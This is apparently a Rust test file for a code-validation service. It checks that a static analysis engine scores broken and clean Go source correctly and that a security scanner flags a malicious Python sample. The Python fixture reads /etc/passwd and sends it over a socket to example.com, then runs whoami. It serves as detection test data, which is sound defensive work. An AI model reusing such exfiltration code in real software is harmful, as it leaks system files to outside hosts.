//! Static and security engines over real materialized workspaces.

use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio_util::sync::CancellationToken;

use kwality_domain::entities::{EngineStatus, Severity, SourceFile, SourceSpec, ValidationRequest};
use kwality_domain::ports::{Engine, EngineContext, WorkspaceMaterializer};
use kwality_domain::value_objects::{EngineConfig, JobId, ResourceLimits, SecurityPolicy};
use kwality_infrastructure::config::LimitsConfig;
use kwality_infrastructure::engines::{SecurityScanEngine, StaticAnalysisEngine};
use kwality_infrastructure::workspace::LocalMaterializer;

async fn materialize(
    work_dir: &tempfile::TempDir,
    files: Vec<(&str, &str)>,
) -> (LocalMaterializer, kwality_domain::entities::Workspace) {
    let materializer =
        LocalMaterializer::new(work_dir.path().to_path_buf(), LimitsConfig::default());
    let request = ValidationRequest {
        name: "engines".to_owned(),
        source: SourceSpec::Inline {
            files: files
                .into_iter()
                .map(|(path, content)| SourceFile {
                    path: path.to_owned(),
                    content: content.to_owned(),
                    language: None,
                })
                .collect(),
        },
        config: EngineConfig::default(),
    };
    let workspace = materializer
        .materialize(JobId::new(), &request)
        .await
        .expect("materializes");
    (materializer, workspace)
}

fn context(workspace: kwality_domain::entities::Workspace) -> EngineContext {
    let scratch = std::env::temp_dir().join("kwality-engine-tests");
    EngineContext {
        job_id: JobId::new(),
        workspace: Arc::new(workspace),
        scratch_dir: scratch,
        cancel: CancellationToken::new(),
        deadline: Instant::now() + Duration::from_secs(30),
        limits: ResourceLimits::default(),
    }
}

#[tokio::test]
async fn static_engine_flags_broken_go_source() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (materializer, workspace) = materialize(
        &dir,
        vec![(
            "main.go",
            "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hi\"\n",
        )],
    )
    .await;

    let result = StaticAnalysisEngine::new()
        .run(&context(workspace.clone()))
        .await
        .expect("static engine runs");

    assert_eq!(result.status, EngineStatus::Ok);
    assert!(result.score < 50.0, "syntax errors must tank the score");
    assert!(
        result
            .findings
            .iter()
            .any(|f| f.category == "syntax" && f.severity == Severity::High),
        "expected a high syntax finding"
    );
    materializer.destroy(&workspace).await.expect("cleanup");
}

#[tokio::test]
async fn static_engine_passes_clean_go_source() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (materializer, workspace) = materialize(
        &dir,
        vec![
            (
                "main.go",
                "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hi\")\n}\n",
            ),
            ("go.mod", "module demo\n\ngo 1.22\n"),
        ],
    )
    .await;

    let result = StaticAnalysisEngine::new()
        .run(&context(workspace.clone()))
        .await
        .expect("static engine runs");
    assert!(result.score >= 90.0);
    assert!(result.findings.iter().all(|f| f.category != "syntax"));
    materializer.destroy(&workspace).await.expect("cleanup");
}

#[tokio::test]
async fn security_engine_flags_malicious_python() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (materializer, workspace) = materialize(
        &dir,
        vec![(
            "main.py",
            concat!(
                "import socket, subprocess\n",
                "data = open('/etc/passwd').read()\n",
                "s = socket.create_connection(('example.com', 80))\n",
                "s.send(data.encode())\n",
                "subprocess.run(['whoami'])\n",
            ),
        )],
    )
    .await;

    let engine = SecurityScanEngine::new(
        SecurityPolicy::default(),
        vec![
            "secrets".to_owned(),
            "dangerous_calls".to_owned(),
            "sensitive_paths".to_owned(),
        ],
    );
    let result = engine
        .run(&context(workspace.clone()))
        .await
        .expect("security engine runs");

    assert!(result.score < 30.0, "stacked violations must tank the score");
    let categories: Vec<&str> = result.findings.iter().map(|f| f.category.as_str()).collect();
    assert!(categories.contains(&"security.file_access"));
    assert!(categories.contains(&"security.network"));
    assert!(categories.contains(&"security.exec"));
    assert!(
        result.findings.iter().any(|f| f.severity == Severity::Critical),
        "exec + egress must escalate to critical"
    );
    materializer.destroy(&workspace).await.expect("cleanup");
}
